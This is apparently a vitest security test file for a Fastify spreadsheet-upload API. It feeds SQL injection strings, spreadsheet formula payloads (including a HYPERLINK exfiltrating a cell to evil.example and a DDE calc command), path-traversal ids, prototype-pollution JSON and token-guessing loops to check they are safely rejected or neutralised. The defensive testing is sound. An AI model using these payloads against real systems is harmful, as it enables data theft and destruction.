import { sql } from 'drizzle-orm';
import type { InjectOptions, LightMyRequestResponse } from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { NOW, setMeta, toXlsx, validReturn, type Fixture } from '../matrix/fixtures.js';
import { createTestContext, type TestContext } from '../helpers/test-app.js';
import { countRows, countSheetRows, queryRows } from '../helpers/sql.js';
import { multipartBody } from '../helpers/upload.js';
import { allText, unsafeCells } from '../helpers/xlsx-safety.js';

// Hostile input through the real HTTP stack (issue #6, hardening). Hostile
// FILES are covered at the validator level in test/matrix/hostile.test.ts;
// here it is what reaches the routes: bodies, parts, ids, query strings and
// text built to inject SQL or spreadsheet formulas.

type Login = Awaited<ReturnType<TestContext['login']>>;

const UPLOAD_MAX = 200_000;
const INJECTIONS = [
  "'; drop table returns;--",
  '=HYPERLINK("http://evil.example/?d="&A1,"click")',
  "+cmd|' /C calc'!A0",
  '@SUM(1)',
  '-1+1',
  '\t=1+1',
  '\r=2+2',
  "Robert'); DELETE FROM audit_log; --",
];

// Bodies that would betray internals: a stack frame, a source path, or the database talking.
const STACK = /\n\s+at |\bat .+\(.*:\d+:\d+\)|\.ts:\d+|\.js:\d+|node_modules/;
const SQL_TEXT = /\bselect\b[\s\S]*\bfrom\b|\binsert into\b|\bupdate\b[\s\S]*\bset\b|syntax error|violates|relation "|DrizzleQueryError|Failed query|invalid input syntax/i;

describe('hostile input through the HTTP stack', () => {
  let ctx: TestContext;
  let lei: Login;
  let nclcc: Login;
  let admin: Login;
  const bodies: { what: string; body: string }[] = [];

  beforeAll(async () => {
    ctx = await createTestContext({ now: () => NOW, env: { UPLOAD_MAX_BYTES: String(UPLOAD_MAX) } });
    lei = await ctx.login('FORCE_ANALYST', { force: 'LEI' });
    nclcc = await ctx.login('NCLCC_ANALYST');
    admin = await ctx.login('ADMIN');
  });
  afterAll(() => ctx.close());

  /** Every response passes through here, so the last test can read them all. */
  async function call(opts: InjectOptions & { url: string }): Promise<LightMyRequestResponse> {
    const res = await ctx.app.inject(opts);
    if (!String(res.headers['content-type'] ?? '').includes('spreadsheetml')) bodies.push({ what: `${opts.method} ${opts.url.slice(0, 80)} → ${res.statusCode}`, body: res.body });
    return res;
  }
  const get = (url: string, who: Login) => call({ method: 'GET', url, headers: who.headers });
  const post = (url: string, who: Login, payload: Buffer | string, contentType: string) =>
    call({ method: 'POST', url, headers: { ...who.headers, 'content-type': contentType }, payload });
  const uploadFile = async (fx: Fixture) => {
    const body = multipartBody(await toXlsx(fx));
    return post('/api/v1/returns', lei, body.payload, body.contentType);
  };

  /** A multipart body from parts: files `{ name, filename, data }` and fields `{ name, value }`. */
  function parts(list: ({ name: string; filename: string; data: Buffer } | { name: string; value: string })[]) {
    const boundary = '----climHostile7d1c';
    const chunks = list.flatMap((p) =>
      'filename' in p
        ? [Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="${p.name}"; filename="${p.filename}"\r\nContent-Type: application/octet-stream\r\n\r\n`), p.data, Buffer.from('\r\n')]
        : [Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="${p.name}"\r\n\r\n${p.value}\r\n`)],
    );
    return { payload: Buffer.concat([...chunks, Buffer.from(`--${boundary}--\r\n`)]), contentType: `multipart/form-data; boundary=${boundary}` };
  }

  describe('upload bodies', () => {
    it('answers a multipart body over the upload limit with 413 naming the limit, and stores nothing', async () => {
      const before = await countRows(ctx.database, 'returns');
      const big = multipartBody(Buffer.alloc(UPLOAD_MAX + 10_000, 7));
      const res = await post('/api/v1/returns', lei, big.payload, big.contentType);
      expect(res.statusCode).toBe(413);
      expect(res.json().error.code).toBe('request.too_large');
      expect(res.json().error.message).toMatch(/0\.2 MB|195 KB|200 KB/);
      expect(await countRows(ctx.database, 'returns')).toBe(before);
    });

    it('refuses two files in one upload with a 4xx, keeping neither', async () => {
      const file = await toXlsx(validReturn());
      const before = await countRows(ctx.database, 'returns');
      const body = parts([
        { name: 'file', filename: 'a.xlsx', data: file },
        { name: 'file', filename: 'b.xlsx', data: file },
      ]);
      const res = await post('/api/v1/returns', lei, body.payload, body.contentType);
      expect(res.statusCode).toBeGreaterThanOrEqual(400);
      expect(res.statusCode).toBeLessThan(500);
      expect(res.json().error.message).toMatch(/one workbook/i);
      expect(await countRows(ctx.database, 'returns')).toBe(before);
    });

    it('refuses extra fields beside the file, before or after it', async () => {
      const file = await toXlsx(validReturn());
      const before = await countRows(ctx.database, 'returns');
      for (const list of [
        [{ name: 'force', value: 'KNT' }, { name: 'file', filename: 'a.xlsx', data: file }],
        [{ name: 'file', filename: 'a.xlsx', data: file }, { name: 'comment', value: "'; drop table returns;--" }],
        Array.from({ length: 20 }, (_, i) => ({ name: `f${i}`, value: 'x' })),
      ]) {
        const body = parts(list);
        const res = await post('/api/v1/returns', lei, body.payload, body.contentType);
        expect(res.statusCode, JSON.stringify(list.map((p) => p.name))).toBeGreaterThanOrEqual(400);
        expect(res.statusCode).toBeLessThan(500);
      }
      expect(await countRows(ctx.database, 'returns')).toBe(before);
    });

    it('asks for the field "file" when the workbook comes under another name, or not at all', async () => {
      const file = await toXlsx(validReturn());
      const other = parts([{ name: 'workbook', filename: 'a.xlsx', data: file }]);
      const res = await post('/api/v1/returns', lei, other.payload, other.contentType);
      expect(res.statusCode).toBe(400);
      expect(res.json().error.message).toMatch(/"file"/);
      const empty = parts([]);
      const none = await post('/api/v1/returns', lei, empty.payload, empty.contentType);
      expect(none.statusCode).toBe(400);
      expect(none.json().error.code).toBe('returns.no_file');
    });

    it('answers a body that is not multipart with 415', async () => {
      for (const [type, payload] of [
        ['text/plain', 'hello'],
        ['application/xml', '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaa">]><x>&a;</x>'],
        ['application/x-www-form-urlencoded', 'file=abc'],
        ['application/vnd.openxmlformats-officedocument.spreadsheetml.sheet', 'PK\x03\x04'],
      ] as const) {
        const res = await post('/api/v1/returns', lei, payload, type);
        expect(res.statusCode, type).toBe(415);
      }
    });

    it('answers a multipart body with no boundary, or cut off, with a 4xx', async () => {
      const res = await post('/api/v1/returns', lei, 'garbage', 'multipart/form-data');
      expect(res.statusCode).toBeGreaterThanOrEqual(400);
      expect(res.statusCode).toBeLessThan(500);
      const body = multipartBody(await toXlsx(validReturn()));
      const cut = await post('/api/v1/returns', lei, body.payload.subarray(0, body.payload.length / 2), body.contentType);
      expect(cut.statusCode).toBeGreaterThanOrEqual(400);
      expect(cut.statusCode).toBeLessThan(500);
    });
  });

  describe('JSON bodies', () => {
    it('answers malformed JSON with 400 and a plain message', async () => {
      for (const payload of ['{"name": ', '{name: 1}', '[1,2', '\u0000\u0001', '{"name":"a"}}']) {
        const res = await post('/api/v1/admin/users', admin, payload, 'application/json');
        expect(res.statusCode, payload).toBe(400);
        expect(res.json().error.code).toBe('request.invalid');
      }
    });

    it('answers a JSON body over the body limit with 413, not as if it were a workbook', async () => {
      const huge = JSON.stringify({ name: 'x'.repeat(2 * 1024 * 1024), role: 'ADMIN' });
      const res = await post('/api/v1/admin/users', admin, huge, 'application/json');
      expect(res.statusCode).toBe(413);
      expect(res.json().error.code).toBe('request.too_large');
      expect(res.json().error.message).not.toMatch(/workbook/);
    });

    it('refuses JSON with prototype-pollution keys or wrong types cleanly', async () => {
      const res = await post('/api/v1/admin/users', admin, '{"__proto__":{"role":"ADMIN"},"name":"p","role":"FORCE_ANALYST"}', 'application/json');
      expect(res.statusCode).toBe(400);
      const typed = await post('/api/v1/admin/users', admin, JSON.stringify({ name: ['a'], role: { $ne: null } }), 'application/json');
      expect(typed.statusCode).toBe(400);
    });
  });

  describe('SQL and formula injection in every text field', () => {
    let acceptedId = '';

    it('accepts injection strings in free-text fields and stores them exactly, as data', async () => {
      const fx = validReturn();
      const [l1, l2] = fx.lines.rows;
      [l1['Line Name'], l1['Exporting Area'], l1.Notes, l2['Handling Conditions'], l2['OCG URN']] = INJECTIONS;
      // LEI-N001 is on two rows, which must agree.
      const [n1, n2, n3, n4] = fx.nominals.rows;
      [n1.Surname, n1.Forenames, n3.Surname, n3.Forenames, n4.Surname] = INJECTIONS.slice(3);
      [n2.Surname, n2.Forenames] = [n1.Surname, n1.Forenames];
      setMeta(fx, 'Prepared By', INJECTIONS[1]);
      const res = await uploadFile(fx);
      expect(res.statusCode, res.body.slice(0, 2000)).toBe(201);
      acceptedId = res.json().id;
      const stored = await queryRows<{ data: string }>(
        ctx.database,
        sql`select json_array_elements(data)::text as data from return_sheets where return_id = ${acceptedId} and sheet in ('lines', 'nominals') union all select meta::text from returns where id = ${acceptedId}`,
      );
      const values = stored.flatMap((r) => Object.values(JSON.parse(r.data) as Record<string, unknown>)).flat().map(String);
      for (const s of INJECTIONS) expect(values).toContain(s.trim());
      // The tables the strings named are untouched.
      expect(await countRows(ctx.database, 'returns')).toBeGreaterThan(0);
      expect(await countRows(ctx.database, 'audit_log')).toBeGreaterThanOrEqual(0);
    });

    it('hands the accepted return back with no formula and every dangerous text neutralised', async () => {
      const res = await get(`/api/v1/returns/${acceptedId}/report.xlsx`, lei);
      expect(res.statusCode).toBe(200);
      expect(await unsafeCells(res.rawPayload)).toEqual([]);
      const text = await allText(res.rawPayload);
      expect(text).toContain(`'${INJECTIONS[1]}`);
      expect(text).toContain(INJECTIONS[0]);
    });

    it('rejects a return with injection strings in every cell of every sheet cleanly, and takes nothing in', async () => {
      const fx = validReturn();
      let i = 0;
      const next = () => INJECTIONS[i++ % INJECTIONS.length];
      for (const table of [fx.lines, fx.nominals, fx.addresses!, fx.associations!]) {
        for (const row of table.rows) for (const h of table.headers) row[h] = next();
      }
      fx.meta = fx.meta.map(([label]) => [label, next()]);
      const nominalsBefore = await countSheetRows(ctx.database, 'nominals');
      const res = await uploadFile(fx);
      expect([403, 422]).toContain(res.statusCode);
      expect(await countSheetRows(ctx.database, 'nominals')).toBe(nominalsBefore);
      // Force is one of the injected cells: the upload is refused as unreadable or wrong force, never a 500.
      if (res.statusCode === 422 && res.json().return) {
        const report = await get(`/api/v1/returns/${res.json().return.id}/report.xlsx`, lei);
        expect(report.statusCode).toBe(200);
        expect(await unsafeCells(report.rawPayload)).toEqual([]);
      }
    });

    it('rejects injection strings in the sheets of a return for the right force, with a clean annotated report', async () => {
      const fx = validReturn();
      let i = 0;
      const next = () => INJECTIONS[i++ % INJECTIONS.length];
      for (const table of [fx.lines, fx.nominals, fx.addresses!, fx.associations!]) {
        for (const row of table.rows) for (const h of table.headers) row[h] = next();
      }
      fx.meta = fx.meta.map(([label, v]) => [label, label === 'Force' || label === 'Reporting Month' ? v : next()]);
      const res = await uploadFile(fx);
      expect(res.statusCode).toBe(422);
      const body = res.json();
      expect(body.problems.length).toBeGreaterThan(10);
      const report = await get(`/api/v1/returns/${body.return.id}/report.xlsx`, lei);
      expect(report.statusCode).toBe(200);
      expect(await unsafeCells(report.rawPayload)).toEqual([]);
      const summary = await get(`/api/v1/returns/${body.return.id}`, lei);
      expect(summary.statusCode).toBe(200);
    });

    it('turns formulas the analyst typed into their values in the annotated workbook', async () => {
      const fx = validReturn();
      fx.lines.rows[0].Notes = { formula: 'HYPERLINK("http://evil.example","click")', result: 'click' };
      fx.lines.rows[1].Notes = { formula: 'CONCAT("=1","+2")', result: '=1+2' };
      const res = await uploadFile(fx);
      expect(res.statusCode).toBe(201);
      const report = await get(`/api/v1/returns/${res.json().id}/report.xlsx`, lei);
      expect(await unsafeCells(report.rawPayload)).toEqual([]);
      expect(await allText(report.rawPayload)).toEqual(expect.arrayContaining(['click', "'=1+2"]));
    });

    it('serves a template with no formula cells and no formula-like text', async () => {
      const res = await get('/api/v1/template.xlsx', lei);
      expect(res.statusCode).toBe(200);
      expect(await unsafeCells(res.rawPayload)).toEqual([]);
    });
  });

  describe('ids and query strings', () => {
    it('answers traversal, garbage and huge ids with a 4xx, never a 500', async () => {
      const ids = [
        '..%2F..%2Fetc%2Fpasswd',
        '..%252F..%252Fetc%252Fpasswd',
        '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
        encodeURIComponent("' or 1=1 --"),
        'x'.repeat(5000),
        '00000000-0000-0000-0000-00000000000g',
        '------------------------------------',
        '%00',
        '%E0%A4%A',
        '1;select pg_sleep(5)',
      ];
      for (const id of ids) {
        for (const suffix of ['', '/report.xlsx', '/original']) {
          const res = await get(`/api/v1/returns/${id}${suffix}`, lei);
          expect(res.statusCode, `${id}${suffix}`).toBeGreaterThanOrEqual(400);
          expect(res.statusCode, `${id}${suffix}`).toBeLessThan(500);
        }
        for (const [method, url] of [
          ['POST', `/api/v1/admin/users/${id}/disable`],
          ['POST', `/api/v1/admin/users/${id}/tokens`],
          ['POST', `/api/v1/admin/tokens/${id}/revoke`],
        ] as const) {
          const res = await call({ method, url, headers: admin.headers });
          expect(res.statusCode, url).toBeGreaterThanOrEqual(400);
          expect(res.statusCode, url).toBeLessThan(500);
        }
      }
      const raw = await call({ method: 'GET', url: '/api/v1/returns/../../etc/passwd', headers: lei.headers });
      expect(raw.statusCode).toBe(404);
    });

    it('answers NUL bytes and control characters in names, filters, filenames and cells without a 500', async () => {
      const name = await post('/api/v1/admin/users', admin, JSON.stringify({ name: 'nul\u0000user', role: 'NCLCC_ANALYST' }), 'application/json');
      expect(name.statusCode).toBe(400);
      for (const q of ['action=%00', 'target=a%00b']) expect((await get(`/api/v1/audit?${q}`, admin)).statusCode, q).toBe(400);
      const withNul = multipartBody(await toXlsx(validReturn()), 'march\u0000.xlsx');
      const upload = await post('/api/v1/returns', lei, withNul.payload, withNul.contentType);
      expect(upload.statusCode).toBeLessThan(500);
      const fx = validReturn();
      fx.lines.rows[0].Notes = 'before\u0000after';
      fx.nominals.rows[2].Surname = 'DOE\u0000';
      expect((await uploadFile(fx)).statusCode).toBeLessThan(500);
    });

    it('answers a well-formed id that does not exist with 404', async () => {
      const res = await get('/api/v1/returns/00000000-0000-4000-8000-000000000000', lei);
      expect(res.statusCode).toBe(404);
    });

    it('answers injection in the returns filters with a 4xx or an empty list', async () => {
      for (const q of ["force=' OR 1=1", "force=LEI'--", 'force=%27%3B%20drop%20table%20returns%3B--', 'month=2024-03%27%20or%20%271%27=%271', 'month=2024-13']) {
        const res = await get(`/api/v1/returns?${q}`, nclcc);
        expect(res.statusCode, q).toBeLessThan(500);
        if (res.statusCode === 200) expect(res.json(), q).toEqual([]);
      }
      expect((await get('/api/v1/compliance?month=%27%3Bdrop', nclcc)).statusCode).toBe(400);
    });

    it('answers injection in the audit filters with a 4xx or an empty list', async () => {
      for (const q of ["action=' OR 1=1 --", "target=x' union select * from tokens --", "user=' OR 1=1", 'from=yesterday', "to='; drop table audit_log;--", 'before=1 or 1=1', 'limit=99999999999999999999', 'limit=-1']) {
        const res = await get(`/api/v1/audit?${q}`, admin);
        expect(res.statusCode, q).toBeLessThan(500);
        if (res.statusCode === 200) expect(res.json(), q).toEqual([]);
      }
      expect(await countRows(ctx.database, 'tokens')).toBeGreaterThan(0);
    });
  });

  describe('headers', () => {
    it('sets security headers on API responses, errors included', async () => {
      for (const res of [await get('/api/v1/returns', lei), await call({ method: 'GET', url: '/api/v1/returns' }), await call({ method: 'GET', url: '/nope' })]) {
        expect(res.headers['x-content-type-options']).toBe('nosniff');
        expect(res.headers['x-frame-options']).toBe('SAMEORIGIN');
        expect(res.headers['strict-transport-security']).toMatch(/max-age=/);
        expect(res.headers['x-powered-by']).toBeUndefined();
      }
    });

    it('sends no CORS headers when no origin is configured', async () => {
      const pre = await call({ method: 'OPTIONS', url: '/api/v1/returns', headers: { origin: 'https://evil.example', 'access-control-request-method': 'GET' } });
      expect(pre.headers['access-control-allow-origin']).toBeUndefined();
      const res = await call({ method: 'GET', url: '/api/v1/returns', headers: { ...lei.headers, origin: 'https://evil.example' } });
      expect(res.headers['access-control-allow-origin']).toBeUndefined();
      expect(res.headers['access-control-allow-credentials']).toBeUndefined();
    });
  });

  it('never answered with a stack trace or SQL text (every response above)', () => {
    expect(bodies.length).toBeGreaterThan(50);
    const leaks = bodies.filter(({ body }) => STACK.test(body) || SQL_TEXT.test(body.replace(/drop table returns|delete from audit_log|union select \* from tokens/gi, '')));
    expect(leaks.map((l) => `${l.what}: ${l.body.slice(0, 300)}`)).toEqual([]);
  });
});

describe('rate limiting and CORS when configured', () => {
  let ctx: TestContext;
  beforeAll(async () => {
    ctx = await createTestContext({ env: { RATE_LIMIT_PER_MINUTE: '5', CORS_ORIGINS: 'https://matrix.police.example' } });
  });
  afterAll(() => ctx.close());

  it('answers 429 per token past the limit, and not for another token', async () => {
    const a = await ctx.login('NCLCC_ANALYST');
    const b = await ctx.login('NCLCC_ANALYST');
    const statuses: number[] = [];
    for (let i = 0; i < 7; i++) statuses.push((await ctx.app.inject({ method: 'GET', url: '/api/v1/returns', headers: a.headers })).statusCode);
    expect(statuses).toEqual([200, 200, 200, 200, 200, 429, 429]);
    const limited = await ctx.app.inject({ method: 'GET', url: '/api/v1/returns', headers: a.headers });
    expect(limited.json().error.code).toBe('request.rate_limited');
    expect(limited.headers['retry-after']).toBeDefined();
    expect((await ctx.app.inject({ method: 'GET', url: '/api/v1/returns', headers: b.headers })).statusCode).toBe(200);
  });

  it('limits requests with made-up tokens too, so guessing tokens is slow', async () => {
    const statuses: number[] = [];
    for (let i = 0; i < 7; i++) {
      statuses.push((await ctx.app.inject({ method: 'GET', url: '/api/v1/returns', headers: { authorization: 'Bearer clim_guess' }, remoteAddress: '10.9.9.9' })).statusCode);
    }
    expect(statuses.slice(-2)).toEqual([429, 429]);
  });

  it('stops a caller guessing with a new made-up token each time, after 30 failures a minute from one address', async () => {
    const statuses: number[] = [];
    for (let i = 0; i < 32; i++) {
      statuses.push((await ctx.app.inject({ method: 'GET', url: '/api/v1/returns', headers: { authorization: `Bearer clim_guess_${i}` }, remoteAddress: '10.7.7.7' })).statusCode);
    }
    expect(statuses.slice(0, 30).every((s) => s === 401)).toBe(true);
    const blocked = await ctx.app.inject({ method: 'GET', url: '/api/v1/returns', headers: { authorization: 'Bearer clim_guess_x' }, remoteAddress: '10.7.7.7' });
    expect([statuses.slice(30), blocked.json().error.code]).toEqual([[429, 429], 'auth.too_many_failures']);
    const elsewhere = await ctx.app.inject({ method: 'GET', url: '/api/v1/returns', headers: { authorization: 'Bearer clim_guess_y' }, remoteAddress: '10.7.7.8' });
    expect(elsewhere.statusCode).toBe(401);
  });

  it('answers CORS only for the configured origin', async () => {
    const ok = await ctx.app.inject({ method: 'OPTIONS', url: '/api/v1/returns', headers: { origin: 'https://matrix.police.example', 'access-control-request-method': 'GET' }, remoteAddress: '10.1.1.1' });
    expect(ok.headers['access-control-allow-origin']).toBe('https://matrix.police.example');
    const evil = await ctx.app.inject({ method: 'OPTIONS', url: '/api/v1/returns', headers: { origin: 'https://evil.example', 'access-control-request-method': 'GET' }, remoteAddress: '10.1.1.2' });
    expect(evil.headers['access-control-allow-origin']).toBeUndefined();
  });
});
